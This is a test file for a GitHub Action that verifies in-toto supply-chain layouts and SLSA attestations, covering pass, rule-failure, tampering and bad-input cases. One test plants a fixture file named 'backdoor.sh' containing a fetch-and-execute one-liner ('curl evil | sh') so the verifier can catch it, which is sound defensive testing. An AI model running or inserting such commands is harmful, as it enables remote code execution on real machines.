/**
 * The bundled mc/intoto-verify action run as the GitHub runner runs it (tests/harness/runner.ts):
 * outputs, job summary (per-step table), annotations on the failing rule's layout line, exit codes.
 */
import { createHash } from 'node:crypto';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runBuiltAction } from '../harness/runner.js';
import { makeStatement, signStatement } from '../../src/core/statement.js';
import { loadPrivateKey } from '../../src/core/ed25519.js';
import { mc } from './scenarios.js';
import { copyTestKeys } from '../helpers/test-keys.js';

const ws = mkdtempSync(join(tmpdir(), 'mc-intoto-action-'));
afterAll(() => rmSync(ws, { recursive: true, force: true }));

beforeAll(async () => {
  copyTestKeys(ws, ['owner', 'dev']);
  const r = await mc(
    [
      'intoto',
      'run',
      '-q',
      '-n',
      'build',
      '-k',
      'dev',
      '-t',
      'ed25519',
      '-p',
      'dist',
      '--',
      'sh',
      '-c',
      'mkdir -p dist && echo app > dist/app.txt',
    ],
    ws,
  );
  expect(r.code).toBe(0);
  writeFileSync(
    join(ws, 'layout.json'),
    JSON.stringify(
      {
        _type: 'layout',
        expires: '2040-01-01T00:00:00Z',
        keys: {},
        steps: [
          {
            _type: 'step',
            name: 'build',
            pubkeys: ['dev'],
            threshold: 1,
            expected_command: [],
            expected_materials: [],
            expected_products: [
              ['CREATE', 'dist/app.txt'],
              ['DISALLOW', '*'],
            ],
          },
        ],
        inspect: [
          {
            _type: 'inspection',
            name: 'check',
            run: ['test', '-f', 'dist/app.txt'],
            expected_materials: [
              ['MATCH', 'dist/*', 'WITH', 'PRODUCTS', 'FROM', 'build'],
              ['ALLOW', '*.pub'],
              ['ALLOW', '*.layout'],
              ['ALLOW', 'layout.json'],
              ['ALLOW', 'owner'],
              ['ALLOW', 'dev'],
              ['ALLOW', 'att.json'],
              ['DISALLOW', '*'],
            ],
            expected_products: [['ALLOW', '*']],
          },
        ],
      },
      null,
      1,
    ),
  );
  const s = await mc(
    ['intoto', 'sign', '-f', 'layout.json', '-k', 'owner', '-t', 'ed25519', '--functionary', 'dev=dev.pub:ed25519', '-o', 'root.layout'],
    ws,
  );
  expect(s.code).toBe(0);
  const key = await loadPrivateKey(
    readFileSync(join(import.meta.dirname, '../../examples/keys/dev-not-for-production.pem'), 'utf8'),
    'dev',
  );
  const st = makeStatement(
    [
      {
        name: 'dist/app.txt',
        digest: {
          sha256: createHash('sha256')
            .update(readFileSync(join(ws, 'dist/app.txt')))
            .digest('hex'),
        },
      },
    ],
    'https://slsa.dev/provenance/v1',
    {
      buildDefinition: {
        buildType: 'https://example.com/bt/v1',
        externalParameters: { workflow: { repository: 'https://github.com/mc/example', ref: 'refs/heads/main' } },
      },
      runDetails: { builder: { id: 'https://github.com/mc/builder@v1' } },
    },
  );
  writeFileSync(join(ws, 'att.json'), JSON.stringify(signStatement(st, [key])));
  cpSync(join(import.meta.dirname, '../../examples/keys/dev-not-for-production.pub.pem'), join(ws, 'dev-signer.pub'));
}, 60_000);

describe('mc/intoto-verify bundle on the runner contract', () => {
  const inputs = {
    layout: 'root.layout',
    'layout-keys': 'owner.pub',
    'key-types': 'ed25519',
    attestations: 'att.json',
    'attestation-keys': 'dev-signer.pub',
    artifacts: 'dist/app.txt',
    'predicate-types': 'https://slsa.dev/provenance/v1',
    'builder-id': 'https://github.com/mc/builder',
    'source-uri': 'github.com/mc/example',
    'source-ref': 'main',
    report: '',
  };
  it('passes: outputs, per-step summary table, exit 0', async () => {
    const r = await runBuiltAction('intoto-verify', { workspace: ws, inputs });
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({
      verdict: 'pass',
      passed: 'true',
      'layout-passed': 'true',
      'attestations-passed': 'true',
      'failed-check': '',
    });
    expect(r.summary).toContain('### in-toto verification passed');
    expect(r.summary).toMatch(/\| build \| step \| build\.[0-9a-f]{8}\.link \| 1 valid \| 1\/1 \| 0 materials, 2 products \|/);
    expect(r.summary).toMatch(/\| check \| inspection \|.*`test -f dist\/app.txt` → 0 \(recorded \d+ materials, \d+ products\) \| pass \|/);
    expect(r.summary).toContain('### Attestation verified: `att.json`');
  }, 60_000);
  it('fails on a rule: exit 1, outputs name the check and step, annotation on the rule line of the layout', async () => {
    const bad = mkdtempSync(join(tmpdir(), 'mc-intoto-action-bad-'));
    cpSync(ws, bad, { recursive: true });
    writeFileSync(join(bad, 'dist', 'backdoor.sh'), 'curl evil | sh\n');
    // the inspection's DISALLOW * catches the extra file in the final product
    const r = await runBuiltAction('intoto-verify', {
      workspace: bad,
      inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'ed25519', report: 'out/verdict.json' },
    });
    rmSync(bad, { recursive: true, force: true });
    expect(r.exitCode).toBe(1);
    expect(r.outputs).toMatchObject({ verdict: 'fail', 'failed-check': 'rule', 'failed-step': 'check', report: 'out/verdict.json' });
    const err = r.annotations.find((a) => a.level === 'error' && a.props.title?.startsWith('in-toto verification failed'))!;
    expect(err.message).toContain("'DISALLOW *' matched 1 artifact(s): dist/backdoor.sh");
    expect(err.props.file).toBe('root.layout');
    expect(Number(err.props.line)).toBeGreaterThan(1);
    expect(r.summary).toContain('in-toto verification FAILED');
  }, 60_000);
  it('fails an attestation whose artifact was tampered with', async () => {
    const bad = mkdtempSync(join(tmpdir(), 'mc-intoto-action-att-'));
    cpSync(ws, bad, { recursive: true });
    writeFileSync(join(bad, 'dist', 'app.txt'), 'tampered\n');
    const r = await runBuiltAction('intoto-verify', {
      workspace: bad,
      inputs: { attestations: 'att.json', 'attestation-keys': 'dev-signer.pub', artifacts: 'dist/*.txt', report: '' },
    });
    rmSync(bad, { recursive: true, force: true });
    expect(r.exitCode).toBe(1);
    expect(r.outputs).toMatchObject({ verdict: 'fail', 'attestations-passed': 'false' });
    expect(r.annotations.some((a) => a.level === 'error' && a.props.file === 'att.json' && a.message.includes('dist/app.txt'))).toBe(true);
  }, 60_000);
  it('unusable input exits 2 with one annotated line, no stack trace', async () => {
    const r = await runBuiltAction('intoto-verify', {
      workspace: ws,
      inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'dsa', report: '' },
    });
    expect(r.exitCode).toBe(2);
    expect(r.annotations[0].message).toMatch(/key-types/);
    expect(r.stdout).not.toMatch(/\n\s+at /);
    const none = await runBuiltAction('intoto-verify', { workspace: ws, inputs: { report: '' } });
    expect(none.exitCode).toBe(2);
  }, 60_000);
});
